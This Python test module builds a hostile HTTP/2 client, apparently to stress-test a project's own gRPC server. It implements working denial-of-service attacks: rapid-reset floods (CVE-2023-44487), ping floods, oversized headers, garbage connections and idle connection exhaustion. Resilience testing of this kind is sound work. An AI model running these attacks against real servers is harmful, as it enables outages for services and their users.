"""A hostile HTTP/2 client in a process of its own, for R10.

    python -m tests.faults.abuser HOST PORT KIND

Says ``begun`` when it is at it, and goes on until it is killed. Frames are made with hyperframe and hpack: a client
library would keep to the rules. Rates are fixed, so that it is the server that is tried and not this machine's cores.
"""

from __future__ import annotations

import asyncio
import random
import struct
import sys
from collections.abc import Awaitable, Callable
from typing import Final

import hpack
from hyperframe.frame import ContinuationFrame, DataFrame, Frame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TICK_S: Final = 0.02
RESETS_A_TICK: Final = 60
PINGS_A_TICK: Final = 100
GARBAGE_A_TICK: Final = 3
IDLE_CONNECTIONS: Final = 300
IDLE_A_TICK: Final = 20
LARGE_METADATA: Final = 200_000
FRAME_BYTES: Final = 16_384
EMPTY_MESSAGE: Final = bytes(5)
"""gRPC's prefix of a message without bytes."""


def headers(path: str, *more: tuple[str, str]) -> bytes:
    """A header block that leaves the peer's table as it is, so that it can be sent again and again."""
    pairs = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *more,
    ]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*pair) for pair in pairs], huffman=False)


STATUS: Final = "/ferrum_rpc.executor.v1.ModelExecutor/GetStatus"
HEADERS: Final = headers(STATUS)


class Connection:
    """An HTTP/2 connection that is opened again when the server has had enough of it."""

    def __init__(self, host: str, port: int) -> None:
        self._host, self._port = host, port
        self._writer: asyncio.StreamWriter | None = None
        self._reading: asyncio.Task[None] | None = None
        self.stream = 1

    async def send(self, make: Callable[[Connection], bytes]) -> None:
        try:
            if self._writer is None or self._writer.is_closing() or self.stream > 2**30:
                await self._open()
            assert self._writer is not None
            self._writer.write(make(self))
            await self._writer.drain()
        except OSError:
            self._writer = None

    async def _open(self) -> None:
        reader, self._writer = await asyncio.open_connection(self._host, self._port)
        self.stream = 1
        self._writer.write(PREFACE + SettingsFrame(0).serialize())
        self._reading = asyncio.create_task(self._read(reader, self._writer))

    async def _read(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Acknowledge the server's settings, then read and forget, until the server hangs up or says GOAWAY."""
        writer.write(SettingsFrame(0, flags=["ACK"]).serialize())
        try:
            while True:
                head = await reader.readexactly(9)
                frame, length = Frame.parse_frame_header(memoryview(head))
                await reader.readexactly(length)
                if frame.type == 7:
                    break
        except (OSError, asyncio.IncompleteReadError):
            pass
        writer.close()


def _request(stream: int, block: bytes = HEADERS) -> bytes:
    """A whole call: without its message no handler would begin."""
    first, rest = block[:FRAME_BYTES], block[FRAME_BYTES:]
    frames: list[Frame] = [HeadersFrame(stream, data=first, flags=[] if rest else ["END_HEADERS"])]
    while rest:
        part, rest = rest[:FRAME_BYTES], rest[FRAME_BYTES:]
        frames.append(ContinuationFrame(stream, data=part, flags=[] if rest else ["END_HEADERS"]))
    frames.append(DataFrame(stream, data=EMPTY_MESSAGE, flags=["END_STREAM"]))
    return b"".join(each.serialize() for each in frames)


async def rapid_resets(host: str, port: int) -> None:
    """Calls that are reset before anybody answered (CVE-2023-44487)."""

    def burst(connection: Connection) -> bytes:
        out = []
        for _ in range(RESETS_A_TICK):
            out.append(_request(connection.stream))
            out.append(RstStreamFrame(connection.stream, error_code=8).serialize())
            connection.stream += 2
        return b"".join(out)

    await _again(Connection(host, port), burst)


async def ping_flood(host: str, port: int) -> None:
    """Pings, each of which wants an answer."""
    pings = b"".join(PingFrame(0, opaque_data=struct.pack(">Q", n)).serialize() for n in range(PINGS_A_TICK))
    await _again(Connection(host, port), lambda _: pings)


async def large_metadata(host: str, port: int) -> None:
    """Calls whose metadata no server should keep."""
    block = headers(STATUS, ("x-large", "a" * LARGE_METADATA))

    def call(connection: Connection) -> bytes:
        connection.stream += 2
        return _request(connection.stream, block)

    await _again(Connection(host, port), call)


async def garbage(host: str, port: int) -> None:
    """Connections that speak no HTTP/2, or begin to and go on with noise."""
    dice = random.Random(1)
    _begun()
    while True:
        for _ in range(GARBAGE_A_TICK):
            try:
                _, writer = await asyncio.open_connection(host, port)
                writer.write(dice.choice((b"", PREFACE, PREFACE[:9])) + dice.randbytes(dice.randint(1, 5_000)))
                await writer.drain()
                if dice.random() < 0.5:
                    writer.close()
                else:
                    writer.transport.abort()
            except OSError:
                pass
        await asyncio.sleep(TICK_S)


async def idle_connections(host: str, port: int) -> None:
    """Connections that say nothing."""
    _begun()
    held = []
    while len(held) < IDLE_CONNECTIONS:
        held += [await asyncio.open_connection(host, port) for _ in range(IDLE_A_TICK)]
        await asyncio.sleep(TICK_S)
    await asyncio.gather(*[reader.read() for reader, _ in held])
    await asyncio.Event().wait()


async def _again(connection: Connection, make: Callable[[Connection], bytes]) -> None:
    await connection.send(make)
    _begun()
    while True:
        await connection.send(make)
        await asyncio.sleep(TICK_S)


def _begun() -> None:
    print("begun", flush=True)


KINDS: Final[dict[str, Callable[[str, int], Awaitable[None]]]] = {
    each.__name__: each for each in (rapid_resets, ping_flood, large_metadata, garbage, idle_connections)
}

if __name__ == "__main__":
    asyncio.run(KINDS[sys.argv[3]](sys.argv[1], int(sys.argv[2])))
